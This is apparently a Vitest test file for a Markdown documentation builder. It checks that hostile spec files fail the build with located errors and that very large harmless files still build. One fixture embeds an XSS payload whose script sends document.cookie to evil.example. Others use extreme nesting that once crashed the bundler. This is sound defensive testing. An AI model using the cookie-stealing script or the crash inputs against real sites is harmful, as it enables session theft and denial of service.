/**
 * Hostile files through the real build (the held-out files go through it too), written to temp
 * folders at test time so no binary file sits in the repository:
 * - unsafe HTML, a binary file, an upper-case extension and runaway nesting (in .md, and in .mdx,
 *   which compiles to JavaScript as deep) stop the build with located errors and no page written;
 * - huge but harmless Markdown (5,000-level nesting, 10,000 headings, a 100 KB line, a 5 MB file
 *   with the size limit raised) builds, every page there; `npm run check` takes the 5 MB file too.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildSpecsDir, ROOT, type BuiltSite } from '../helpers/build-fixture.ts';
import { element } from '../helpers/html.ts';
import { MAX_AUTHORS, MAX_MDX_DEPTH, MAX_MDX_EXPRESSION_DEPTH, MAX_TAGS } from '../../src/core/limits.ts';
import { buildSpec, columnOf, lineOf } from '../helpers/spec-builder.ts';

/** A valid Draft with `tags` tags and `authors` authors. */
const withLists = (feature: string, tags: number, authors: number) =>
	buildSpec({
		feature,
		status: 'Draft',
		lastUpdated: '2026-11-20',
		frontmatter: `tags: [${Array.from({ length: tags }, (_, index) => `tag-${index}`).join(', ')}]`,
		authors: Array.from({ length: authors }, (_, index) => `Engineer ${index}`).join(', '),
	});

const valid = (feature: string, extra?: string) =>
	buildSpec({ feature, status: 'Draft', lastUpdated: '2026-11-20', ...(extra ? { extraSections: [{ title: 'Appendix', body: extra }] } : {}) });

function writeFolder(files: Record<string, string | Uint8Array>): string {
	const dir = mkdtempSync(join(tmpdir(), 'specbook-hostile-build-'));
	for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
	return dir;
}

const folders: string[] = [];
const sites: BuiltSite[] = [];
afterAll(() => {
	for (const site of sites) site.cleanup();
	for (const dir of folders) rmSync(dir, { recursive: true, force: true });
});

describe('unsafe or unreadable specs stop the build', () => {
	const xss = valid('Retry dashboard').replace('- **Context**:', '- **Context**: See <script>fetch("https://evil.example/?c=" + document.cookie)</script> and');
	const deep = valid('Runaway nesting', `${'> '.repeat(20_000)}x`);
	// Compiled to JavaScript this deep, an .mdx spec crashed the bundler (a segmentation fault).
	const deepMdx = valid('Deep MDX', `${'- '.repeat(300)}x`);
	// 1,400 brackets in an expression crashed the bundler; 20,000 crashed the parser of `check` too.
	// Starlight refused the icon while rendering: the build logged it unlocated, exited 0 and published an empty page.
	const badAside = valid('Bad aside', ':::note{icon="nope"}\nBody.\n:::');
	const deepExpression = valid('Deep expression', `Intro.\n\n{${'['.repeat(1_400)}${']'.repeat(1_400)}}`);
	let site: BuiltSite;
	let dir: string;

	beforeAll(async () => {
		dir = writeFolder({
			'good.md': valid('Good spec'),
			'xss.md': xss,
			'Upper.MD': valid('Upper case'),
			'binary.md': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]),
			'deep.md': deep,
			'deep-mdx.mdx': deepMdx,
			'deep-expression.mdx': deepExpression,
			'many-tags.md': withLists('Many tags', 5_000, 1),
			'bad-aside.md': badAside,
		});
		folders.push(dir);
		site = await buildSpecsDir(dir);
		sites.push(site);
	}, 180_000);

	const path = (name: string) => `${relative(ROOT, dir)}/${name}`;

	test('with every error located, as check prints it', () => {
		expect(site.exitCode).not.toBe(0);
		const scriptLine = lineOf(xss, '<script>');
		expect(site.output).toContain(`${path('xss.md')}:${scriptLine}:${columnOf(xss, scriptLine, '<script>')}: error html-unsafe Unsafe HTML: <script> can run script`);
		expect(site.output).toContain(`${path('Upper.MD')}:1:1: error file-extension `);
		expect(site.output).toContain(`${path('binary.md')}:3:1: error file-encoding `);
		expect(site.output).toContain(`${path('deep.md')}:${lineOf(deep, '> > >')}:1: error markdown-too-complex `);
		expect(site.output).toContain(`${path('deep-mdx.mdx')}:${lineOf(deepMdx, '- - -')}:601: error markdown-too-complex `);
		expect(site.output).toContain(`${path('deep-expression.mdx')}:${lineOf(deepExpression, '{[[[')}:${MAX_MDX_EXPRESSION_DEPTH + 1}: error markdown-too-complex `);
		expect(site.output).toContain(`${path('many-tags.md')}:2:1: error tags-too-many `);
		expect(site.output).toContain(`${path('bad-aside.md')}:${lineOf(badAside, ':::note')}:1: error directive-invalid \`:::note\` has icon="nope"`);
		expect(site.output).not.toContain(`${path('good.md')}:`);
		// Located lines, not a stack trace.
		expect(site.output).not.toMatch(/\n\s+at .+\(.+:\d+:\d+\)/);
	});

	test('and no page is written', () => {
		expect(site.files().filter((file) => /\.(html|json|xml)$/.test(file))).toEqual([]);
	});
});

const paragraph = (index: number) =>
	`Paragraph ${index}: the **ledger** keeps _every_ posting, see [the runbook](https://example.com/runbook/${index}) and \`ledger-svc\`.\n\n- Item ${index}\n  - Nested under ${index}\n\n| a | b |\n| - | - |\n| ${index} | x |\n`;
/** A valid Draft of a little over 5 MB of ordinary Markdown. */
const fiveMegabytes = () => valid('Five megabytes', Array.from({ length: 26_000 }, (_, index) => paragraph(index)).join('\n'));

describe('huge but harmless specs build', () => {
	const headings = Array.from({ length: 10_000 }, (_, index) => `### Note ${index}\n\nText ${index}.`).join('\n\n');
	let site: BuiltSite;

	beforeAll(async () => {
		const big = fiveMegabytes();
		expect(Buffer.byteLength(big)).toBeGreaterThan(5_000_000);
		const dir = writeFolder({
			'nested.md': valid('Nested 5000', `${'- '.repeat(5_000)}innermost`),
			'headings.md': valid('Ten thousand headings', headings),
			'long-line.md': valid('Long line', `${'lorem ipsum '.repeat(8_700)}end of line`),
			'five-mb.md': big,
			'full-lists.md': withLists('Full lists', MAX_TAGS, MAX_AUTHORS),
			// JavaScript as deep as the limit allows, inside a list as deep as the .mdx limit allows.
			'deepest-mdx.mdx': valid('Deepest MDX', `${'- '.repeat(MAX_MDX_DEPTH / 2 - 2)}{${'['.repeat(MAX_MDX_EXPRESSION_DEPTH - 1)}'innermost'${']'.repeat(MAX_MDX_EXPRESSION_DEPTH - 1)}}`),
		});
		folders.push(dir);
		// This config raises the size limit to 6 MB (maxFileBytes).
		site = await buildSpecsDir(dir, { config: 'test/fixtures/large/astro.config.mjs' });
		sites.push(site);
		if (site.exitCode !== 0) throw new Error(`The build failed:\n${site.output}`);
	}, 240_000);

	test('the 5,000-level list is rendered to its innermost item', () => {
		const body = element(site.read('/specs/nested/'), /<div class="spec-body/) ?? '';
		expect(body).toContain(`${'<ul>\n<li>\n'.repeat(4_999)}<ul>\n<li>innermost</li>`);
	});

	test('every one of 10,000 headings gets its anchor; the 100 KB line and the 5 MB spec are there', () => {
		const page = site.read('/specs/headings/');
		expect(page).toContain('id="note-0"');
		expect(page).toContain('id="note-9999"');
		expect(site.read('/specs/long-line/')).toContain('end of line');
		expect(site.read('/specs/five-mb/')).toContain('Paragraph 25999');
	});

	test('the most tags and authors allowed: every link once, each with one class (the page used to grow quadratically)', () => {
		const page = site.read('/specs/full-lists/');
		const tagLinks = page.match(/<a href="[^"]*tag=tag-\d+[^"]*"[^>]*>/g) ?? [];
		const authorLinks = page.match(/<a href="[^"]*\/authors\/engineer-\d+\/"[^>]*>/g) ?? [];
		expect(new Set(tagLinks.map((link) => /tag=(tag-\d+)/.exec(link)![1])).size).toBe(MAX_TAGS);
		expect(new Set(authorLinks.map((link) => /engineer-\d+/.exec(link)![0])).size).toBe(MAX_AUTHORS);
		for (const link of [...tagLinks, ...authorLinks]) expect(link).toMatch(/^<a [^>]*class="[\w-]+"[^>]*>$/);
		expect(page.length).toBeLessThan(500_000);
	});

	test('an .mdx spec nested to both of its limits builds', () => {
		expect(site.read('/specs/deepest-mdx/')).toContain('innermost');
	});
});

describe('npm run check on a 5 MB spec', () => {
	const check = (cwd: string) =>
		spawnSync(join(ROOT, 'node_modules/.bin/node'), [join(ROOT, 'src/cli/check.ts'), '--no-git'], { cwd, encoding: 'utf8', timeout: 120_000 });
	let dir: string;

	beforeAll(() => {
		dir = mkdtempSync(join(tmpdir(), 'specbook-hostile-check-'));
		folders.push(dir);
		mkdirSync(join(dir, 'specs'));
		writeFileSync(join(dir, 'specs/five-mb.md'), fiveMegabytes());
	});

	test('is over the default limit: a located error', () => {
		const run = check(dir);
		expect(run.status).toBe(1);
		expect(run.stdout).toMatch(/^specs\/five-mb\.md:1:1: error file-too-large The file is \d+ bytes, over the limit of 1000000 bytes\./m);
	});

	test('with maxFileBytes raised in specbook.config.ts, it is parsed and valid', () => {
		const config = pathToFileURL(join(ROOT, 'src/integration/config.ts')).href;
		writeFileSync(join(dir, 'specbook.config.ts'), `import { defineSpecbookConfig } from '${config}';\nexport default defineSpecbookConfig({ maxFileBytes: 6_000_000 });\n`);
		const run = check(dir);
		expect(run.stderr).toBe('');
		expect(run.stdout).toContain('1 spec checked: no problems.');
		expect(run.status).toBe(0);
	});
});
